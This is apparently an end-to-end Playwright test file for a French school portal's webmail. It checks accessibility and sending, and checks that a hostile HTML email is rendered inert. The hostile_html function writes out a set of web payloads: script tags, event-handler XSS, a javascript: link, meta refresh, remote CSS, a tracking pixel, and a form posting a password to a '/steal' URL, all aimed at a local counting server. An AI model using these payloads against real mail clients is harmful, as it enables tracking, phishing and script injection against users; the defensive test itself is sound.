"""The webmail in a real browser (chromium), on the local store and its receiver.

- A visit to /webmail/ goes through the ENT login and comes back; the list, a message and the
  writing page are audited with axe-core (WCAG 2.1 AA) at 375 px and 1280 px (screenshots
  ``webmail-*``); a message written in the browser reaches the real SMTP server.
- A malicious HTML mail shows nothing active: a local TCP server counts every connection the
  page makes to the "remote" host (zero before "Afficher les images distantes"), no script sets
  its ``window`` flag, no dialog opens, the page stays where it is (no meta refresh, no form).
"""

from __future__ import annotations

import email.policy
import re
import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from email.message import EmailMessage
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from ent.directory.models import Student
from tests.conftest import GOOD_PASSWORD, SMTPCatcher, text_body
from tests.e2e.conftest import Auditor

# The local store and its receiver, as the webmail tests use them.
from tests.webmail.conftest import (  # noqa: F401
    deliver,
    dovecot_server,
    dovecot_store,
    mail_backend,
    new_mailbox,
    store,
)
from tests.webmail.mails import make_mail
from tests.webmail.test_rendering import PNG

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]


class _Counter(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True
    connections = 0


class _Answer(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        server: Any = self.server
        server.connections += 1
        try:
            self.request.recv(4096)
            self.request.sendall(
                b"HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nConnection: close\r\n"
                b"Content-Length: %d\r\n\r\n" % len(PNG) + PNG
            )
        except OSError:
            pass


@contextmanager
def remote_host() -> Iterator[_Counter]:
    """A "remote" web server on the loopback that counts every connection made to it."""
    server = _Counter(("127.0.0.1", 0), _Answer)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


def hostile_html(remote: str) -> str:
    """Every trick of the brief, each pointing at the counting server or setting a flag."""
    return f"""<html><head>
<meta http-equiv="refresh" content="0;url={remote}/refresh">
<base href="{remote}/base/">
<link rel="stylesheet" href="{remote}/link.css">
<link rel="prefetch" href="{remote}/prefetch">
<style>@import url({remote}/import.css); body {{ background: url({remote}/style-bg.png) }}</style>
<script>window.pwned = "script"; alert("script")</script>
<script src="{remote}/script.js"></script>
</head><body onload="window.pwned = 'onload'">
<h2>Offre spéciale</h2>
<p style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999;
   background-image: url({remote}/overlay.png)">Faux écran de connexion</p>
<div style="background: url('{remote}/div-bg.png')">fond</div>
<a id="js-link" href="javascript:window.pwned='link'">Cliquez ici</a>
<a href="{remote}/page">Un lien normal</a>
<img alt="pixel espion" src="{remote}/track.png">
<img alt="logo" src="cid:logo@ent">
<img src="x" onerror="window.pwned = 'onerror'" alt="">
<svg onload="window.pwned = 'svg'"><image href="{remote}/svg.png"/></svg>
<iframe src="{remote}/frame"></iframe>
<object data="{remote}/object"></object><embed src="{remote}/embed">
<form action="{remote}/steal" method="post"><input name="password" value="x">
<button id="steal">Valider</button></form>
<video poster="{remote}/poster.png"></video>
<table background="{remote}/table.png"><tr><td>cellule</td></tr></table>
</body></html>"""


def sign_in_from_webmail(page: Page, ent_url: str, student_number: str) -> None:
    """/webmail/ anonymously → the ENT login → back to the webmail."""
    page.goto("/webmail/")
    expect(page).to_have_url(re.compile(rf"^{re.escape(ent_url)}/login\?next=/webmail/"))
    page.get_by_label("Identifiant").fill(student_number)
    page.get_by_label("Mot de passe").fill(GOOD_PASSWORD)
    page.get_by_role("button", name="Se connecter").click()
    expect(page).to_have_url(re.compile(rf"^{re.escape(ent_url)}/webmail/folder/INBOX/$"))


def test_webmail_pages_and_writing(
    page: Page,
    audit: Auditor,
    ent_url: str,
    new_mailbox: Any,  # noqa: F811
    deliver: Any,  # noqa: F811
    smtp_server: SMTPCatcher,
) -> None:
    mailbox = new_mailbox(first_name="Sophie", last_name="Germain")
    student = Student.objects.get(institutional_email=mailbox)
    sign_in_from_webmail(page, ent_url, student.student_number)
    expect(page.get_by_role("heading", level=1)).to_have_text("Boîte de réception")
    expect(page.get_by_text("Ce dossier ne contient aucun message.")).to_be_visible()
    audit("webmail-01-empty")

    with_attachment = EmailMessage()
    with_attachment["From"] = "Ada Lovelace <ada@example.org>"
    with_attachment["To"] = mailbox
    with_attachment["Subject"] = "Notes du cours"
    with_attachment["Message-ID"] = "<notes-e2e@example.org>"
    with_attachment.set_content("Bonjour Sophie,\n\nles notes sont jointes.\n")
    with_attachment.add_attachment(
        b"%PDF-1.4", maintype="application", subtype="pdf", filename="notes.pdf"
    )
    deliver(
        mailbox, make_mail(to=mailbox, subject="Bienvenue", sender="Scolarité <sco@example.org>")
    )
    deliver(mailbox, with_attachment.as_bytes(policy=email.policy.SMTP))
    page.reload()
    rows = page.locator(".message-row")
    expect(rows).to_have_count(2)
    expect(rows.first).to_contain_text("Non lu")
    expect(rows.first).to_contain_text("Notes du cours")
    audit("webmail-02-list")

    page.get_by_role("link", name=re.compile("Notes du cours")).click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Notes du cours")
    expect(page.get_by_role("link", name="notes.pdf")).to_be_visible()
    audit("webmail-03-message")
    with page.expect_download() as download:
        page.get_by_role("link", name="notes.pdf").click()
    assert download.value.suggested_filename == "notes.pdf"

    page.get_by_role("link", name="Répondre", exact=True).click()
    expect(page.locator("#id_subject")).to_have_value("Re: Notes du cours")
    page.locator("#id_to").fill("ada@example.org, pas une adresse")
    page.locator("#id_body").fill("Merci beaucoup !")
    page.get_by_role("button", name="Envoyer").click()
    expect(page.locator("#error-summary")).to_contain_text("Adresse invalide : « pas une adresse »")
    expect(page.locator("#id_body")).to_have_value("Merci beaucoup !")
    audit("webmail-04-compose-error")
    page.locator("#id_to").fill("Ada Lovelace <ada@example.org>")
    page.get_by_role("button", name="Envoyer").click()
    expect(page.locator(".messages")).to_contain_text("Message envoyé.")
    (sent,) = smtp_server.wait_for(1)
    assert sent["In-Reply-To"] == "<notes-e2e@example.org>"
    assert text_body(sent).startswith("Merci beaucoup !")

    page.get_by_role("link", name="Écrire").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Écrire un message")
    audit("webmail-05-compose")
    page.get_by_role("link", name=re.compile("^Envoyés")).click()
    expect(page.locator(".message-row")).to_have_count(1)
    audit.assert_clean()


def test_malicious_html_mail_shows_nothing_active(
    page: Page,
    audit: Auditor,
    ent_url: str,
    new_mailbox: Any,  # noqa: F811
    deliver: Any,  # noqa: F811
) -> None:
    mailbox = new_mailbox(first_name="Sophie", last_name="Germain")
    student = Student.objects.get(institutional_email=mailbox)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    with remote_host() as counter:
        remote = f"http://127.0.0.1:{counter.server_address[1]}"
        message = EmailMessage()
        message["From"] = "Mallory <mallory@evil.example>"
        message["To"] = mailbox
        message["Subject"] = "Offre spéciale"
        message.set_content("Version texte.")
        message.add_alternative(hostile_html(remote), subtype="html")
        message.get_payload()[1].add_related(PNG, maintype="image", subtype="png", cid="<logo@ent>")
        sign_in_from_webmail(page, ent_url, student.student_number)
        deliver(mailbox, message.as_bytes(policy=email.policy.SMTP))
        page.reload()
        page.get_by_role("link", name=re.compile("Offre spéciale")).click()
        message_url = page.url
        frame = page.frame_locator("iframe.message-frame")
        expect(frame.get_by_text("Offre spéciale")).to_be_visible()
        expect(frame.get_by_text("cellule")).to_be_visible()
        logo = frame.get_by_alt_text("logo")
        expect(logo).to_have_attribute("src", re.compile(r"^data:image/png;base64,"))
        assert logo.evaluate("img => img.naturalWidth") == 1  # the cid: image is shown
        # Nothing of the mail's own head or active elements; only the frame's charset and style.
        active = (
            "script, iframe, object, embed, form, input, svg, video, base, link, meta[http-equiv]"
        )
        expect(frame.locator(f"{active}, body style, body meta")).to_have_count(0)
        expect(frame.locator("[style*=position], [style*=url]")).to_have_count(0)
        expect(frame.get_by_role("link", name="Un lien normal")).to_have_attribute(
            "target", "_blank"
        )
        expect(frame.get_by_role("link", name="Un lien normal")).to_have_attribute(
            "rel", "noopener noreferrer"
        )
        frame.get_by_text("Cliquez ici").click()  # the javascript: link lost its href
        page.wait_for_timeout(1500)  # time for any refresh, import or beacon to fire
        assert counter.connections == 0
        assert dialogs == []
        assert page.url == message_url
        assert page.evaluate("window.pwned") is None
        for child in page.frames[1:]:
            flag = _frame_flag(child)
            assert flag in (None, "blocked"), flag
        expect(page.get_by_text("1 image distante est bloquée", exact=False)).to_be_visible()
        audit("webmail-06-malicious-message")

        page.get_by_role("link", name="Afficher les images distantes").click()
        frame = page.frame_locator("iframe.message-frame")
        pixel = frame.get_by_alt_text("pixel espion")
        expect(pixel).to_have_attribute(
            "src", f"https://127.0.0.1:{counter.server_address[1]}/track.png"
        )
        # The image is now requested (over https, the only scheme the frame's policy allows):
        # the counting server sees the attempt; still no script, no dialog.
        page.wait_for_function("() => true")
        for _ in range(50):
            if counter.connections:
                break
            page.wait_for_timeout(100)
        assert counter.connections >= 1
        assert dialogs == [] and page.evaluate("window.pwned") is None
    audit.assert_clean()


def _frame_flag(frame: Any) -> Any:
    """``window.pwned`` in the frame, or "blocked" when the sandbox refuses any script."""
    try:
        return frame.evaluate("() => window.pwned === undefined ? null : window.pwned")
    except Exception:  # no script may run in the sandbox at all: even better
        return "blocked"
